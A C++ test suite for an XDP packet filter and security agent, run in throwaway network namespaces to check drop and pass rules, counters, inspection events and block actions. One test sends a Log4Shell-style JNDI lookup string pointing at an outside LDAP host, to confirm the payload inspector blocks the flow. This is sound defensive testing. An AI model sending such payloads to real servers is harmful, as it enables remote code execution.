// The XDP filter on a real interface: two network namespaces joined by a veth pair (created
// and removed here; addresses only inside them). The filter is attached to the receiving end
// through the CLI, and real TCP and UDP traffic is passed or dropped as the rules say, with
// per-rule counters equal to the packets sent. Root only.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>

namespace {

struct Shell {
  int rc = -1;
  std::string out;
};

Shell sh(const std::string& cmd) {
  Shell r;
  FILE* p = popen((cmd + " 2>&1").c_str(), "r");
  if (!p) return r;
  std::array<char, 4096> buf{};
  for (size_t n; (n = fread(buf.data(), 1, buf.size(), p)) > 0;) r.out.append(buf.data(), n);
  int status = pclose(p);
  r.rc = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return r;
}

class XdpNetns : public ::testing::Test {
 protected:
  void SetUp() override {
    if (geteuid() != 0)
      GTEST_SKIP() << "needs root (network namespaces, XDP); run the suite as root";
    if (sh("command -v ip && command -v nsenter && command -v python3").rc != 0)
      GTEST_SKIP() << "needs ip (iproute2), nsenter (util-linux) and python3";
    const std::string id = std::to_string(getpid() % 100000);
    a_ = "wsnxa" + id;
    b_ = "wsnxb" + id;
    va_ = "wxa" + id;
    vb_ = "wxb" + id;
    pin_ = "/sys/fs/bpf/wsn-netns-" + id;
    Shell made =
        sh("set -e; ip netns add " + a_ + "; ip netns add " + b_ + "; ip link add name " + va_ +
           " type veth peer name " + vb_ + "; ip link set " + va_ + " netns " + a_ +
           "; ip link set " + vb_ + " netns " + b_ + "; ip -n " + a_ +
           " addr add 10.201.0.1/24 dev " + va_ + "; ip -n " + b_ + " addr add 10.201.0.2/24 dev " +
           vb_ + "; ip -n " + a_ + " addr add fd00:201::1/64 dev " + va_ + " nodad" + "; ip -n " +
           b_ + " addr add fd00:201::2/64 dev " + vb_ + " nodad" + "; ip -n " + a_ + " link set " +
           va_ + " up; ip -n " + b_ + " link set " + vb_ + " up; ip -n " + a_ +
           " link set lo up; ip -n " + b_ + " link set lo up");
    ASSERT_EQ(made.rc, 0) << made.out;
    made_ = true;
    Shell attach = cli_in_b("net attach --iface " + vb_ + " --mode skb");
    ASSERT_EQ(attach.rc, 0) << attach.out;
  }
  void TearDown() override {
    stop_agent();
    if (!made_) return;
    cli_in_b("net detach --iface " + vb_);
    sh("ip netns del " + a_ + "; ip netns del " + b_);
    sh(std::string(WSN_CLI) + " net unload --pin-dir " + pin_);
  }

  std::string in(const std::string& ns) { return "nsenter --net=/run/netns/" + ns + " "; }
  Shell cli_in_b(const std::string& args) {
    return sh(in(b_) + WSN_CLI + " " + args + " --pin-dir " + pin_);
  }
  uint64_t rule_packets(const std::string& id) {
    Shell list = cli_in_b("net rule list --json");
    size_t at = list.out.find("{\"id\":" + id + ",");
    if (at == std::string::npos) return ~0ull;
    size_t p = list.out.find("\"packets\":", at);
    return std::stoull(list.out.substr(p + 10));
  }

  // Starts a UDP (or TCP) counter in B on PORT for SECONDS; returns its output file.
  std::string serve(const std::string& proto, int port, double seconds) {
    std::string out =
        "/tmp/wsn-netns-" + std::to_string(getpid()) + "-" + proto + std::to_string(port);
    std::string py =
        proto == "udp"
            ? "import socket,sys,time\n"
              "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(('0.0.0.0'," +
                  std::to_string(port) +
                  "))\n"
                  "s.settimeout(0.2);n=0;end=time.time()+" +
                  std::to_string(seconds) +
                  "\n"
                  "while time.time()<end:\n"
                  "  try: s.recv(2048); n+=1\n"
                  "  except socket.timeout: pass\n"
                  "open('" +
                  out + "','w').write(str(n))\n"
            : "import socket,time\n"
              "s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
              "s.bind(('0.0.0.0'," +
                  std::to_string(port) +
                  "));s.listen(8);s.settimeout(0.2);n=0\n"
                  "end=time.time()+" +
                  std::to_string(seconds) +
                  "\n"
                  "while time.time()<end:\n"
                  "  try:\n"
                  "    c,_=s.accept();c.settimeout(1);d=c.recv(100);n+=1;c.sendall(d);c.close()\n"
                  "  except socket.timeout: pass\n"
                  "open('" +
                  out + "','w').write(str(n))\n";
    std::string script = out + ".py";
    FILE* f = fopen(script.c_str(), "w");
    fputs(py.c_str(), f);
    fclose(f);
    sh(in(b_) + "python3 " + script + " >/dev/null 2>&1 &");
    return out;
  }
  static std::string read_file(const std::string& path) {
    for (int i = 0; i < 60; ++i) {  // the server writes when its time is up
      if (FILE* f = fopen(path.c_str(), "r")) {
        char buf[64] = {};
        fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        if (buf[0]) return buf;
      }
      usleep(100000);
    }
    return "";
  }

  static std::string slurp(const std::string& path) {
    std::ifstream in(path);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
  }

  // Starts `wasm-sentinel run` inside namespace B with this configuration and one EQL rule;
  // waits until it says it is detecting. Alerts go to alerts_, messages to log_.
  bool start_agent(const std::string& config, const std::string& rule_query,
                   const std::string& actions) {
    return start_agent_with(config,
                            "id: xdp-test-rule\nname: XDP test rule\ntype: eql\nseverity: "
                            "high\nquery: '" +
                                rule_query + "'\n" + actions);
  }
  bool start_agent_with(const std::string& config, const std::string& rule_yaml) {
    dir_ = "/tmp/wsn-xdp-agent-" + std::to_string(getpid());
    std::filesystem::create_directories(dir_ + "/rules");
    std::ofstream(dir_ + "/config.yml") << config;
    std::ofstream(dir_ + "/rules/r.yml") << rule_yaml;
    alerts_ = dir_ + "/alerts.jsonl";
    log_ = dir_ + "/run.err";
    agent_ = fork();
    if (agent_ == 0) {
      int e = ::open(log_.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      dup2(e, 1);
      dup2(e, 2);
      std::string ns = "--net=/run/netns/" + b_, cfg = dir_ + "/config.yml",
                  rules = dir_ + "/rules";
      const char* argv[] = {"nsenter",    ns.c_str(), WSN_CLI,       "run",      "-c",
                            cfg.c_str(),  "-r",       rules.c_str(), "--output", alerts_.c_str(),
                            "--duration", "120",      nullptr};
      execvp("nsenter", const_cast<char* const*>(argv));
      _exit(127);
    }
    for (int k = 0; k < 3000; ++k) {
      std::string text = slurp(log_);
      if (text.find("live detection with") != std::string::npos) return true;
      int status = 0;
      if (waitpid(agent_, &status, WNOHANG) == agent_) {
        agent_ = -1;
        ADD_FAILURE() << "the agent stopped: " << text;
        return false;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    ADD_FAILURE() << "the agent never started: " << slurp(log_);
    return false;
  }
  void stop_agent() {
    if (agent_ > 0) {
      kill(agent_, SIGINT);
      waitpid(agent_, nullptr, 0);
      agent_ = -1;
    }
    if (!dir_.empty()) std::filesystem::remove_all(dir_);
  }
  // Waits up to `seconds` for `needle` in the alerts file.
  bool alert_with(const std::string& needle, double seconds) {
    for (int k = 0; k < seconds * 20; ++k) {
      if (slurp(alerts_).find(needle) != std::string::npos) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    return false;
  }

  std::string a_, b_, va_, vb_, pin_;
  bool made_ = false;
  pid_t agent_ = -1;
  std::string dir_, alerts_, log_;
};

TEST_F(XdpNetns, UdpPassedAndDroppedWithExactCounters) {
  ASSERT_EQ(cli_in_b("net rule add --id 1 --proto udp --dport 9001 --action drop").rc, 0);
  ASSERT_EQ(
      cli_in_b("net rule add --id 2 --src 10.201.0.0/24 --proto udp --dport 9000 --action pass").rc,
      0);
  std::string got9000 = serve("udp", 9000, 2.5), got9001 = serve("udp", 9001, 2.5);
  usleep(500000);
  Shell send = sh(in(a_) +
                  "python3 -c \"import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                  "for i in range(50):\n  s.sendto(b'x'*64,('10.201.0.2',9000)); "
                  "s.sendto(b'y'*64,('10.201.0.2',9001))\"");
  ASSERT_EQ(send.rc, 0) << send.out;
  EXPECT_EQ(read_file(got9000), "50");
  EXPECT_EQ(read_file(got9001), "0");
  EXPECT_EQ(rule_packets("1"), 50u);
  EXPECT_EQ(rule_packets("2"), 50u);
}

TEST_F(XdpNetns, TcpConnectionsFollowTheRulesAndChangesApplyToTheAttachedFilter) {
  ASSERT_EQ(cli_in_b("net rule add --id 5 --proto tcp --dport 8081 --action drop").rc, 0);
  std::string ok = serve("tcp", 8080, 6), blocked = serve("tcp", 8081, 6);
  usleep(500000);
  auto connect = [&](int port) {
    return sh(in(a_) + "python3 -c \"import socket\ns=socket.create_connection(('10.201.0.2'," +
              std::to_string(port) +
              "),timeout=1.5)\ns.sendall(b'ping')\nassert s.recv(10)==b'ping'\"");
  };
  EXPECT_EQ(connect(8080).rc, 0);
  EXPECT_NE(connect(8081).rc, 0);  // SYNs die in XDP: the connection times out
  EXPECT_GE(rule_packets("5"), 1u);
  // A rule added now reaches the filter already attached: 8080 is dropped from here on.
  ASSERT_EQ(cli_in_b("net rule add --id 6 --src 10.201.0.1 --proto tcp --dport 8080 --action drop "
                     "--priority 1")
                .rc,
            0);
  EXPECT_NE(connect(8080).rc, 0);
  EXPECT_GE(rule_packets("6"), 1u);
  ASSERT_EQ(cli_in_b("net rule delete --id 6").rc, 0);
  EXPECT_EQ(connect(8080).rc, 0);
  EXPECT_EQ(read_file(ok), "2");
  EXPECT_EQ(read_file(blocked), "0");
}

TEST_F(XdpNetns, StatusNamesTheInterfaceAndCountsIpv6Drops) {
  // udp only: neighbour discovery from the same address must still pass
  ASSERT_EQ(
      cli_in_b("net rule add --id 3 --src fd00:201::1 --proto udp --dport 9999 --action drop").rc,
      0);
  sh(in(a_) +
     "python3 -c \"import socket\ns=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM)\n"
     "for i in range(20): s.sendto(b'z',('fd00:201::2',9999))\"");
  Shell status = cli_in_b("net status --json");
  ASSERT_EQ(status.rc, 0) << status.out;
  EXPECT_NE(status.out.find("\"interfaces\":[{\"iface\":\"" + vb_ + "\",\"mode\":\"skb\"}]"),
            std::string::npos)
      << status.out;
  EXPECT_EQ(rule_packets("3"), 20u);
}

TEST_F(XdpNetns, AgentAppliesConfiguredRulesTurnsInspectedPacketsIntoEventsAndSeesCliRules) {
  const std::string config =
      "sources:\n  ebpf:\n    enabled: false\n  xdp:\n    enabled: true\n    pin_dir: " + pin_ +
      "\n    interfaces: [" + vb_ +
      "]\n    inspect_packets: 3\n    rules:\n"
      "      - --id 20 --proto udp --dport 9200 --action inspect\n"
      "http:\n  enabled: true\n  listen: 127.0.0.1:19477\nresponse:\n  audit_log: '-'\n";
  ASSERT_TRUE(start_agent(config,
                          "network where event.action == \"packet_inspected\" and "
                          "destination.port == 9200 and source.ip == \"10.201.0.1\"",
                          ""));
  // Ten datagrams of one flow: the first three are copied to the agent (inspect_packets: 3).
  sh(in(a_) +
     "python3 -c \"import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
     "s.bind(('10.201.0.1',45000))\nfor i in range(10): s.sendto(b'q'*32,('10.201.0.2',9200))\"");
  EXPECT_TRUE(alert_with("\"destination\":{\"ip\":\"10.201.0.2\",\"port\":9200}", 10))
      << slurp(alerts_) << slurp(log_);
  EXPECT_EQ(rule_packets("20"), 10u);
  // A rule added from the CLI reaches the filter the running agent attached.
  std::string got = serve("udp", 9201, 2.5);
  usleep(300000);
  ASSERT_EQ(cli_in_b("net rule add --id 21 --proto udp --dport 9201 --action drop").rc, 0);
  sh(in(a_) +
     "python3 -c \"import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
     "for i in range(15): s.sendto(b'r',('10.201.0.2',9201))\"");
  EXPECT_EQ(read_file(got), "0");
  EXPECT_EQ(rule_packets("21"), 15u);
  // The filter's counters on the agent's /metrics (B's own loopback).
  std::this_thread::sleep_for(std::chrono::milliseconds(1500));
  Shell metrics =
      sh(in(b_) +
         "python3 -c \"import urllib.request\n"
         "print(urllib.request.urlopen('http://127.0.0.1:19477/metrics').read().decode())\"");
  EXPECT_NE(metrics.out.find("wsn_xdp_rule_packets_total{source=\"xdp\",rule=\"20\"} 10"),
            std::string::npos)
      << metrics.out.substr(0, 3000);
  EXPECT_NE(metrics.out.find("wsn_xdp_inspect_copied_total{source=\"xdp\"}"), std::string::npos);
}

TEST_F(XdpNetns, DropDecisionsBecomeEventsWhenAsked) {
  // sources.xdp.drop_events: the first dropped packet of each flow is a `packet_dropped` event.
  const std::string config =
      "sources:\n  ebpf:\n    enabled: false\n  xdp:\n    enabled: true\n    pin_dir: " + pin_ +
      "\n    interfaces: [" + vb_ +
      "]\n    drop_events: true\n    rules:\n"
      "      - --id 40 --proto udp --dport 9400 --action drop\n"
      "alerts:\n  dedupe:\n    window: 0s\n"  // network events have no process to fold on
      "http:\n  enabled: false\nresponse:\n  audit_log: '-'\n";
  ASSERT_TRUE(start_agent(config,
                          "network where event.action == \"packet_dropped\" and "
                          "destination.port == 9400",
                          ""));
  // Two flows (two source ports), five datagrams each: two events, ten drops.
  sh(in(a_) +
     "python3 -c \"import socket\nfor sp in (46000, 46001):\n"
     "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(('10.201.0.1',sp))\n"
     "  for i in range(5): s.sendto(b'd',('10.201.0.2',9400))\"");
  EXPECT_TRUE(alert_with("\"port\":46001", 10)) << slurp(alerts_) << slurp(log_);
  EXPECT_EQ(rule_packets("40"), 10u);
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  const std::string alerts = slurp(alerts_);
  size_t n = 0;
  for (size_t at = alerts.find("xdp-test-rule"); at != std::string::npos;
       at = alerts.find("xdp-test-rule", at + 1))
    ++n;
  EXPECT_EQ(n, 2u) << alerts;  // one per flow, not one per packet
}

TEST_F(XdpNetns, HostRuleBlockActionStopsTheConnection) {
  // A process in B connects out to a listener in A; the EQL rule on its connect (kernel
  // collector) carries `block`, which drops A's address at B's interface: A's later data never
  // arrives, and a new connection fails.
  const std::string config =
      "sources:\n  xdp:\n    enabled: true\n    pin_dir: " + pin_ + "\n    interfaces: [" + vb_ +
      "]\nactions:\n  block:\n    pin_dir: " + pin_ +
      "\n    ttl: 60s\nhttp:\n  enabled: false\nresponse:\n  audit_log: " + "/tmp/wsn-xdp-audit-" +
      std::to_string(getpid()) + ".jsonl\n";
  if (!start_agent(config,
                   "network where event.action == \"connection_attempted\" and "
                   "destination.port == 4444",
                   "actions: [block]\n")) {
    if (slurp(log_).find("live collection unavailable") != std::string::npos)
      GTEST_SKIP() << "the kernel collector cannot run here";
    return;
  }
  // The listener sends a line right away and another one 2 s later.
  std::string py_listener =
      "import "
      "socket,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
      "s.bind(('10.201.0.1',4444));s.listen(4);s.settimeout(8)\n"
      "c,_=s.accept();c.sendall(b'first\\n');time.sleep(2);c.sendall(b'second\\n');time.sleep(3)\n";
  std::ofstream(dir_ + "/listener.py") << py_listener;
  sh(in(a_) + "python3 " + dir_ + "/listener.py >/dev/null 2>&1 &");
  usleep(500000);
  Shell client =
      sh(in(b_) +
         "python3 -c \"import socket\ns=socket.create_connection(('10.201.0.1',4444),timeout=2)\n"
         "print(s.recv(100))\ns.settimeout(4)\ntry:\n  print(s.recv(100))\nexcept "
         "socket.timeout:\n  print('timeout')\n\"");
  EXPECT_NE(client.out.find("b'first\\n'"), std::string::npos) << client.out;
  EXPECT_NE(client.out.find("timeout"), std::string::npos) << client.out;
  EXPECT_TRUE(alert_with("xdp-test-rule", 5)) << slurp(log_);
  std::string audit = slurp("/tmp/wsn-xdp-audit-" + std::to_string(getpid()) + ".jsonl");
  EXPECT_NE(audit.find("\"result\":\"blocked\""), std::string::npos) << audit;
  EXPECT_NE(audit.find("\"address\":\"10.201.0.1\""), std::string::npos) << audit;
  Shell again =
      sh(in(b_) +
         "python3 -c \"import socket\nsocket.create_connection(('10.201.0.1',4444),timeout=1.5)\"");
  EXPECT_NE(again.rc, 0);
  std::filesystem::remove("/tmp/wsn-xdp-audit-" + std::to_string(getpid()) + ".jsonl");
}

TEST_F(XdpNetns, InspectorDropVerdictBlocksTheRestOfTheFlow) {
  // Port 9300 is inspected; the SDK's payload-signature inspector (Wasm) sees the first packets
  // of each flow, and its alert carries `block` (scope port): the client's later data to 9300
  // dies in the driver.
  const std::string module = std::string(WSN_SDK_OUT) + "/c_payload_signature.wasm";
  const std::string config =
      "sources:\n  ebpf:\n    enabled: false\n  xdp:\n    enabled: true\n    pin_dir: " + pin_ +
      "\n    interfaces: [" + vb_ +
      "]\n    rules:\n      - --id 30 --proto tcp --dport 9300 --action inspect\n"
      "actions:\n  block:\n    pin_dir: " +
      pin_ +
      "\n    scope: port\n    ttl: 60s\n"
      "http:\n  enabled: false\nresponse:\n  audit_log: '-'\n";
  ASSERT_TRUE(start_agent_with(config,
                               "id: inspector.payload\nname: Exploit payload (inspector)\n"
                               "type: wasm\nseverity: critical\nmodule: " +
                                   module + "\nactions: [block]\n"));
  // The server collects what arrives on one connection for 5 s.
  std::string received = "/tmp/wsn-netns-" + std::to_string(getpid()) + "-recv";
  std::ofstream(dir_ + "/server.py")
      << "import "
         "socket,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
         "s.bind(('0.0.0.0',9300));s.listen(1);s.settimeout(5)\nc,_=s.accept();c.settimeout(0.2)\n"
         "got=b'';end=time.time()+5\nwhile time.time()<end:\n  try:\n    d=c.recv(4096)\n"
         "    if not d: break\n    got+=d\n  except socket.timeout: pass\n"
         "open('"
      << received << "','wb').write(got)\n";
  sh(in(b_) + "python3 " + dir_ + "/server.py >/dev/null 2>&1 &");
  usleep(500000);
  // (a file: the payload's ${…} must not meet a shell)
  std::ofstream(dir_ + "/client.py")
      << "import socket,time\ns=socket.create_connection(('10.201.0.2',9300),timeout=2)\n"
         "s.sendall(b'GET /?q=${jndi:ldap://198.51.100.9/a} "
         "HTTP/1.1\\r\\n\\r\\n')\ntime.sleep(1.5)\n"
         "s.sendall(b'AFTER-THE-VERDICT')\ntime.sleep(1)\n";
  sh(in(a_) + "python3 " + dir_ + "/client.py");
  std::string got = read_file(received);
  EXPECT_NE(got.find("jndi"), std::string::npos) << got;               // the first packet passed
  EXPECT_EQ(got.find("AFTER-THE-VERDICT"), std::string::npos) << got;  // the rest was dropped
  EXPECT_TRUE(alert_with("inspector.payload", 5)) << slurp(log_);
  EXPECT_NE(slurp(log_).find("\"result\":\"blocked\""), std::string::npos) << slurp(log_);
  std::filesystem::remove(received);
}

}  // namespace
